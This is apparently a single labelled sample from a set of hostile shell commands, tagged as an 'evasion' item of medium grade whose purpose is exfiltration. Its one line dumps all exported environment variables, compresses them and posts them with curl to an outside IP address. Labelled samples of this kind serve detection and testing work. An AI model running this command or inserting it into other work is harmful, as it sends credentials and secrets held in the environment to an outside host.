# evasion: environment listed with export -p, compressed and posted
# grade: medium; does: exfil
export -p | gzip -c | curl -s --data-binary @- http://203.0.113.5/u
